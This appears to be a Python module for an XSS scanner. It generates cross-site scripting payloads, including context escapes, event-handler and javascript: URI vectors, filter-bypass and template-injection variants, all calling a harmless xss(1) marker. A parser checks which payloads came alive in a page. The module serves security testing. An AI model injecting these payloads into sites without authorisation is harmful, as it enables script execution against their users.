"""What is written into text fields to see whether a page runs it: each payload calls ``xss`` or makes an ``xss-`` element."""

import itertools
import re
from html.parser import HTMLParser

CALL = "xss(1)"
#: How an attack gets out of where it was put: text, attribute, comment, script, style, a form's field.
EXITS = ("", '"', "'", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "</option></select>", "</style>")
#: What it does once it is out.
DEEDS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<xss-a onfocus={CALL} autofocus tabindex=1>",
    f"<details open ontoggle={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<iframe src=javascript:{CALL}>",
    f"<body onload={CALL}>",
    f"<math><a xlink:href=javascript:{CALL}>x",
    f"<input onfocus={CALL} autofocus>",
)
#: Such as need no exit: words for scripts, attributes, links, templates and parsers that disagree.
WORDS = (
    f" onmouseover={CALL} x=",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"&#106;avascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"${{{CALL}}}",
    f"`-{CALL}-`",
    f"'-{CALL}-'",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\n>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><img src=x onerror={CALL}></template>",
    "{{ constructor.constructor('xss(1)')() }}",
    "{% load static %}{{ xss }}",
    f"\u2028<img src=x onerror={CALL}>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><button>x",
    f"<object data=javascript:{CALL}>",
    f"<style>@import'javascript:{CALL}'</style>",
    f"<x style=behavior:url(javascript:{CALL})>",
    f"<b hx-on:load={CALL}>x</b>",
    f"<b hx-get=/ hx-trigger=load hx-vals='js:{{x:{CALL}}}'>x</b>",
)
PAYLOADS = (*(exit + deed for exit, deed in itertools.product(EXITS, DEEDS)), *WORDS)

#: Attributes that lead somewhere.
LEADING = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster", "srcdoc", "content"}
#: Schemes that do something instead.
DOING = re.compile(r"^[\s\x00-\x20]*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data\s*:\s*text)", re.I)
DATA = {"application/json", "application/ld+json", "importmap"}


class Alive(HTMLParser):
    """Finds in a page what came to life of the payloads: an element, an attribute, a script, a link that does something."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._inside = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag.startswith("xss") or tag in ("base", "object", "math", "x"):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            handler = name.startswith(("on", "hx-on", "hx-vals")) and "xss" in value
            if handler or "xss" in name or (name == "style" and "xss" in value):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            if name in LEADING and DOING.match(value):
                self.found.append(f"<{tag} {name}={value[:40]}>")
        self._inside = tag if tag in ("script", "style") and given.get("type", "") not in DATA else ""

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside and "xss" in data:
            self.found.append(f"<{self._inside}>{data[:60]}")


def filling(start: int, room: int) -> str:
    """As many payloads as fit, beginning with one of them; none if not even that one fits."""
    whole = ""
    for payload in (*PAYLOADS[start:], *PAYLOADS[:start]):
        if len(whole) + len(payload) + 1 > room:
            break
        whole += payload + " "
    return whole
